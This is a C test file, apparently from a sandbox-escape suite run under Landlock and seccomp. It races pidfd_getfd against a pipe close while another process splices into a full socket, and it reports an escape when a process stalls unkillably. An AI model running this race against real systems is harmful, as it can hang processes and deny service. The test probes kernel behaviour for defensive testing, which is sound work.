/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * L-04: a process closes its end of a pipe while the tracer has a copy of it, which then is the last
 * one; and whoever closes the last one waits for who splices from that pipe, to a socket that nobody
 * reads, and cannot even be killed. So it does where the end waits in a socket that is closed.
 * Others are served all the same.
 * ATTACK MODES: landlock default landlock,seccomp
 * ATTACK BROKEN: ASIDE
 */
#include "escape.h"

#define ROUNDS 60
#define ASKED  4

/* In one round: the sockets that are spliced to, and who splices; whose descriptor is asked for. */
static struct round {
	int full[2];
	pid_t splicer, giver;
	int given;
} rounds[ROUNDS];

static struct shared {
	volatile int begun; /* which round */
	volatile int done;
	volatile int ready;
} * shared;

static void drain(const struct round *round)
{
	char bytes[4096];

	while (recv(round->full[1], bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
		;
}

/* A round that does not come to an end is ended, lest nobody can tell what happened. */
static void watch(void)
{
	int number = -1;
	int waited = 0;

	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (shared->done < ROUNDS) {
		usleep(100000);
		waited = shared->begun == number && shared->done <= number ? waited + 1 : 0;
		number = shared->begun;
		if (waited > 60)
			drain(&rounds[number]);
	}
	_exit(0);
}

static void fill(int sock)
{
	char bytes[4096] = { 0 };

	while (send(sock, bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
		;
}

static void send_end(int sock, int fd)
{
	union {
		struct cmsghdr header;
		char space[CMSG_SPACE(sizeof(int))];
	} control = { .header = { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
	struct iovec part = { "", 1 };
	struct msghdr message = { .msg_iov = &part,
				  .msg_iovlen = 1,
				  .msg_control = &control,
				  .msg_controllen = sizeof(control) };

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	if (sendmsg(sock, &message, 0) < 0)
		broken("sendmsg");
}

static pid_t splice_from(int pipe_end, int sock)
{
	pid_t child = fork();

	if (child != 0)
		return child;
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	(void)dup2(pipe_end, 0);
	(void)dup2(sock, 1);
	(void)close_range(3, ~0U, 0);
	(void)splice(0, NULL, 1, NULL, 4096, 0);
	_exit(0);
}

/* The pipe's end, or a socket that holds it. */
static int wrap(int number, int end)
{
	int carriers[2];

	if (number % 2 == 0)
		return end;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, carriers) < 0)
		broken("no sockets");
	send_end(carriers[0], end);
	(void)close(end);
	(void)close(carriers[0]);
	return carriers[1];
}

/* Closes it at some moment while it is asked for. */
static pid_t give(int fd)
{
	unsigned int delay = (unsigned int)random() % 100000;
	pid_t child = fork();

	if (child != 0)
		return child;
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	shared->ready = 1;
	while (shared->ready != 2)
		;
	for (volatile unsigned int i = 0; i < delay; i++)
		;
	(void)close(fd);
	_exit(0);
}

static void prepare(int number)
{
	struct round *round = &rounds[number];
	int ends[2];

	if (pipe(ends) < 0 || write(ends[1], "some", 4) != 4)
		broken("no pipe");
	fill(round->full[0]);
	round->splicer = splice_from(ends[0], round->full[0]);
	(void)close(ends[0]);
	round->given = wrap(number, ends[1]);
	/* He is to have the pipe. */
	usleep(5000);
	shared->ready = 0;
	round->giver = give(round->given);
	(void)close(round->given);
	while (shared->ready != 1)
		(void)sched_yield();
}

/* There is no room for what is asked for. */
static void ask(int pidfd, int fd)
{
	struct rlimit limit, none;

	(void)getrlimit(RLIMIT_NOFILE, &limit);
	none = (struct rlimit){ 0, limit.rlim_max };
	(void)setrlimit(RLIMIT_NOFILE, &none);
	for (int i = 0; i < ASKED; i++)
		(void)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
	(void)setrlimit(RLIMIT_NOFILE, &limit);
}

static void try_round(int number)
{
	struct round *round = &rounds[number];
	double begin;
	int pidfd;

	prepare(number);
	pidfd = (int)syscall(SYS_pidfd_open, round->giver, 0);
	shared->begun = number;
	begin = now();
	shared->ready = 2;
	ask(pidfd, round->given);
	(void)access("/etc/passwd", R_OK);
	if (now() - begin > 4)
		escaped("everybody waits for who splices from a pipe, round %d", number);
	drain(round);
	(void)kill(round->splicer, SIGKILL);
	(void)waitpid(round->splicer, NULL, 0);
	(void)waitpid(round->giver, NULL, 0);
	(void)close(pidfd);
	shared->done = number + 1;
}

int main(void)
{
	enter_scratch();
	shared = mmap(NULL, sizeof(*shared), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		      0);
	if (shared == MAP_FAILED)
		broken("mmap");
	for (int i = 0; i < ROUNDS; i++) {
		if (socketpair(AF_UNIX, SOCK_STREAM, 0, rounds[i].full) < 0)
			broken("no sockets");
	}
	shared->begun = -1;
	if (fork() == 0)
		watch();
	for (int i = 0; i < ROUNDS; i++)
		try_round(i);
	contained();
}
